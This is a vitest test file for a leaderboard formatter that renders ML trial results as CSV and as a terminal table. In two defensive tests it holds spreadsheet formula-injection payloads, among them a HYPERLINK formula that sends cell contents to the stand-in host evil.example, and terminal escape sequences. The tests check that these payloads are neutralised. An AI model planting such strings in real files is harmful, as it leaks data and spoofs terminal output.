import { describe, expect, it } from 'vitest';
import { leaderboardRow } from '@fermx/contracts';
import { exampleTrialResult } from '@fermx/contracts/testing';
import { formatParams, leaderboardCsv, leaderboardTable } from './leaderboard-format.js';

describe('leaderboard formats', () => {
  const rows = [leaderboardRow(exampleTrialResult({ valAccuracy: 0.8895, sweepName: 'has,comma' }), 1)];

  it('CSV quotes fields with commas and quotes', () => {
    const csv = leaderboardCsv(rows);
    const [header, line] = csv.trimEnd().split('\n');
    expect(header!.split(',')[0]).toBe('rank');
    expect(line).toContain('"has,comma"');
    expect(line).toContain('"{""dropout"":0.5');
    expect(line).toContain(',0.8895,');
  });

  it('table shows percentages and short params', () => {
    const table = leaderboardTable(rows);
    expect(table).toContain('88.95%');
    expect(table).toContain('dropout=0.5 repeats=3 bs=64 lr=0.001 epochs=100 seed=0 aug=on');
    expect(leaderboardTable([])).toBe('No results yet.\n');
  });

  it('CSV neutralises cells a spreadsheet would run as formulas; numbers stay numbers', () => {
    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
    const csv = leaderboardCsv(evil.map((variant, i) => ({ ...leaderboardRow(exampleTrialResult({ valAccuracy: 0.5 }), i + 1), variant })));
    const variants = csv.trimEnd().split('\n').slice(1).map((line) => line.split(',')[6]!);
    expect(variants[0]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1`);
    expect(variants.slice(1)).toEqual(["'+1+2", "'-2+3", "'@SUM(A1)", "'\\x09=1", "'\\x0d=1"]);
    for (const line of csv.trimEnd().split('\n').slice(1)) expect(line.split(',').slice(6).every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
    const negative = leaderboardCsv([{ ...rows[0]!, trainingSeconds: -1 }]);
    expect(negative).toContain(',-1,');
  });

  it('table shows escape sequences in variant names as text, never sends them to the terminal', () => {
    const table = leaderboardTable([{ ...rows[0]!, variant: 'cnn\x1b[2J\x1b]0;pwned\x07\u202e' }]);
    expect(table).not.toMatch(/[\x1b\x07\u202e]/);
    expect(table).toContain('cnn\\x1b[2J\\x1b]0;pwned\\x07\\u202e');
  });

  it('formatParams orders known knobs first', () => {
    expect(formatParams({ seed: 1, dropout: 0.1, augmentation: 'none' })).toBe('dropout=0.1 seed=1 aug=none');
  });
});
